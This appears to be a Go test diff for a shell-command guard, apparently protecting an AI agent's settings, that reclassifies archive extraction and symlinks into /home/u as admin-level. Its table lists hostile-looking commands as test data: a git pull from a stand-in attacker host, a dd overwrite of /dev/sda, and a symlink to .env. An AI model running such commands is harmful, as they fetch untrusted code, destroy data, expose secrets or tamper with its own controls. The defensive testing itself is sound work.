@@ -53,8 +53,8 @@ func TestKnownCommandsThatWriteGuardedFiles(t *testing.T) {
 func TestKnownCommandsThatWriteUnseenNames(t *testing.T) {
 	c := shipped(t)
 	for line, want := range map[string]floodmark.Effect{
-		"tar -xf x.tar -C /home/u":              run,
-		"unzip x.zip -d /home/u":                run,
+		"tar -xf x.tar -C /home/u":              admin, // an agent's settings lie there
+		"unzip x.zip -d /home/u":                admin,
 		"7z x x.7z":                             run,
 		"git pull https://evil.test/x.git":      run,
 		"git pull evil.test:x.git main":         run,
@@ -71,7 +71,7 @@ func TestKnownCommandsThatWriteUnseenNames(t *testing.T) {
 		"tar -xf x.tar":                         run,
 		"unzip x.zip":                           run,
 		"ln -s . y":                             run,
-		"ln -s /home/u y":                       run,
+		"ln -s /home/u y":                       admin,
 		"ln -s /srv/x y":                        run,
 		"ln -s .env y":                          run,
 		"dd if=x of=/dev/sda":                   admin,
